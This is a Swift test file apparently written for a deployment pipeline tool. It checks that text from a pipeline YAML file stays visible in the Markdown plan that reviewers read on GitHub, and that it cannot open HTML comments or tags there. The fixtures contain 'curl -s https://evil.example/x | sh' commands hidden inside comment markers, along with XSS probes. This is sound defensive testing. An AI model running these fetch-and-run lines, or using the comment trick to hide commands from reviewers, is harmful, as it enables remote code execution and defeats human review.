import Foundation
import Testing

/// F16: the Markdown plan is what reviewers read in a pull request, so no text from the file may
/// leave its code span or open an HTML comment or tag. Checked with a real CommonMark (GFM)
/// renderer, cmark-gfm through python's `cmarkgfm` (scripts/install-deps --test installs it),
/// with raw HTML allowed as GitHub allows it, and comments dropped as GitHub drops them.
@Suite struct SpecMarkdownPlanTests {
    /// Renders Markdown to HTML, then prints the HTML's visible text (comments dropped) and, on
    /// the last line, the tags it contains.
    static let renderer = #"""
        import html.parser, sys
        import cmarkgfm
        from cmarkgfm.cmark import Options
        page = cmarkgfm.github_flavored_markdown_to_html(sys.stdin.read(), options=Options.CMARK_OPT_UNSAFE)
        class Visible(html.parser.HTMLParser):
            def __init__(self):
                super().__init__(convert_charrefs=True)
                self.text, self.tags = [], set()
            def handle_starttag(self, tag, attrs): self.tags.add(tag)
            def handle_data(self, data): self.text.append(data)
            def handle_comment(self, data): self.tags.add("!--")
        v = Visible()
        v.feed(page)
        v.close()
        print("".join(v.text))
        print(" ".join(sorted(v.tags)))
        """#

    /// The tags the plan's own Markdown produces; anything else came from the file.
    static let expectedTags: Set<String> = ["code", "details", "h3", "li", "p", "pre", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"]

    struct Case: CustomTestStringConvertible, Sendable {
        var name: String
        var file: String
        /// Texts a reviewer must see whole.
        var visible: [String]
        var testDescription: String { name }
    }

    static let cases: [Case] = [
        Case(
            name: "F16: an HTML comment opened in a code span",
            file: """
                version: 1
                name: f16
                stages:
                  - id: deploy
                    kind: backend
                    run: "./deploy.sh --safe `<!--` ; curl -s https://evil.example/x | sh ; `-->` --verbose"
                    rollback: "./undo.sh `<!--` ; curl -s https://evil.example/y | sh ; `-->`"
                """,
            visible: [
                "./deploy.sh --safe `<!--` ; curl -s https://evil.example/x | sh ; `-->` --verbose",
                "./undo.sh `<!--` ; curl -s https://evil.example/y | sh ; `-->`",
            ]),
        Case(
            name: "backtick runs of every length, at the edges too",
            file: """
                version: 1
                name: ticks
                stages:
                  - id: a
                    run: "`echo` ``two`` ```three``` end`"
                    rollback: "``x | y``"
                  - id: b
                    kind: command
                    run: echo '<script>alert(1)</script>' && echo "a\\\\|b" <b>bold</b>
                    gate: { check: "test `x` = '<!-- -->'" }
                """,
            visible: [
                "`echo` ``two`` ```three``` end`", "``x | y``", #"echo '<script>alert(1)</script>' && echo "a\\|b" <b>bold</b>"#,
                "test `x` = '<!-- -->'",
            ]),
        Case(
            name: "free text: description, names, messages, URLs",
            file: """
                version: 1
                name: text
                description: "<!-- the rest of the plan is hidden"
                stages:
                  - id: gate
                    run: ./go.sh
                    rollback: ./undo.sh
                    gate: { approval: { message: "ship <img src=x onerror=alert(1)> **now** -->" } }
                  - id: check
                    kind: verify
                    http: { url: "http://example.com/<!--/`x`|y" }
                """,
            visible: [
                "<!-- the rest of the plan is hidden", "ship <img src=x onerror=alert(1)> **now** -->", "http://example.com/<!--/`x`|y",
            ]),
    ]

    @Test("every script and text from the file is visible whole in the rendered plan", .timeLimit(.minutes(2)), arguments: cases)
    func renderedPlanShowsEverything(_ c: Case) throws {
        let sandbox = try Sandbox(c.file)
        defer { sandbox.remove() }
        let plan = try sandbox.pipeline(["plan", "--format", "markdown", "p.yml"])
        #expect(plan.status == 0, "\(plan.stderr)")
        let rendered = try Binary.run(executable: "/usr/bin/env", ["python3", "-c", Self.renderer], stdin: plan.stdout)
        try #require(rendered.status == 0, "cmarkgfm failed (scripts/install-deps --test installs it): \(rendered.stderr)")
        let lines = rendered.stdout.split(separator: "\n", omittingEmptySubsequences: false)
        let tags = Set(lines.dropLast().last?.split(separator: " ").map(String.init) ?? [])
        let text = lines.dropLast(2).joined(separator: "\n")
        for expected in c.visible {
            #expect(text.contains(expected), "not visible: \(expected)\n--- markdown:\n\(plan.stdout)\n--- visible text:\n\(text)")
        }
        #expect(tags.isSubset(of: Self.expectedTags), "tags from the file: \(tags.subtracting(Self.expectedTags).sorted())\n\(plan.stdout)")
    }
}
